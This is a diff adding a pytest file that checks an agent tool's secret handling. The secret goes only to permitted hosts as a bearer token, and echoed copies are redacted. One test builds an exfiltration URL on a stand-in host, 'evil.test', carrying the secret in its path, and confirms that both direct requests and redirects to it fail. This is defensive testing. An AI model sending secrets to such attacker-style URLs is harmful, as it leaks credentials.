@@ -1,0 +1,68 @@
+"""A secret goes to its hosts and nowhere else, and the tool never sees it. Source: issue 27."""
+
+from __future__ import annotations
+
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any, cast
+
+import pytest
+
+from aouo.agent.tools.asks import Asking
+from aouo.agent.tools.registry import ToolContext
+from aouo.facts.errors import ToolFailed
+from aouo.packs.actions.slots import Here
+from aouo.packs.format.manifest import Manifest, Permissions, Secret
+from aouo.packs.load import Pack
+from aouo.packs.settings import Kept
+from tests.fakes.clock import FastClock
+from tests.fakes.web_server import Answer, Names, WebServer, web_of
+
+KEY = "4711-very-secret"
+
+
+async def asked(tmp_path: Path, site: WebServer, url: str, *hosts: str, **more: Any) -> Any:
+    """What a tool gets that asks for a page with its secret; the pack reaches news.test only."""
+    open_host = f"news.test:{site.port}"
+    manifest = Manifest(
+        "desk",
+        "1.0.0",
+        "Desk",
+        permissions=Permissions(network=(open_host,)),
+        secrets={"token": Secret(hosts=hosts or (open_host,))},
+    )
+    kept = Kept(tmp_path)
+    kept.put(manifest, "token", KEY, Here(datetime(2026, 3, 2, tzinfo=UTC), UTC))
+    names = Names(news_test=["127.0.0.1"], evil_test=["127.0.0.1"])
+    none = cast("Any", None)
+    asking = Asking(FastClock(), lambda person: UTC, none, none, web_of(names), kept)
+    pack = Pack(manifest, tmp_path, {}, "", "", {}, "")
+    call = asking.of(pack, cast("ToolContext", none), "c", secrets=("token",), reads=True)
+    return await call("fetch", {"url": url, "secret": "token", "headers": {}, **more})
+
+
+async def test_it_is_sent_as_a_token_and_what_echoes_it_is_cleaned(tmp_path: Path) -> None:
+    async with WebServer() as site:
+        site.pages["/"] = Answer(f"you sent {KEY}".encode(), "text/plain")
+        page = await asked(tmp_path, site, f"http://news.test:{site.port}/")
+        await asked(tmp_path, site, f"http://news.test:{site.port}/?key={{secret}}")
+
+    assert page == [200, "you sent [redacted]"]
+    assert site.requests[0][2]["Authorization"] == f"Bearer {KEY}"
+    assert site.requests[1][1] == f"/?key={KEY}"
+    assert "Authorization" not in site.requests[1][2]
+
+
+@pytest.mark.parametrize("hosts", [(), ("evil.test",)])
+async def test_it_leaves_for_no_other_host(tmp_path: Path, hosts: tuple[str, ...]) -> None:
+    """Neither asked for nor by a redirect, nor where the card names no such host."""
+    async with WebServer() as site:
+        own = [f"{host}:{site.port}" for host in hosts]
+        away = f"http://evil.test:{site.port}/{{secret}}"
+        site.pages["/"] = Answer(status=302, headers={"Location": away.replace("{secret}", "")})
+        for url in (away, f"http://news.test:{site.port}/") if not hosts else (away,):
+            with pytest.raises(ToolFailed) as failed:
+                await asked(tmp_path, site, url, *own)
+            assert KEY not in str(failed.value)
+
+    assert all(headers["Host"].startswith("news.test") for _, _, headers in site.requests)
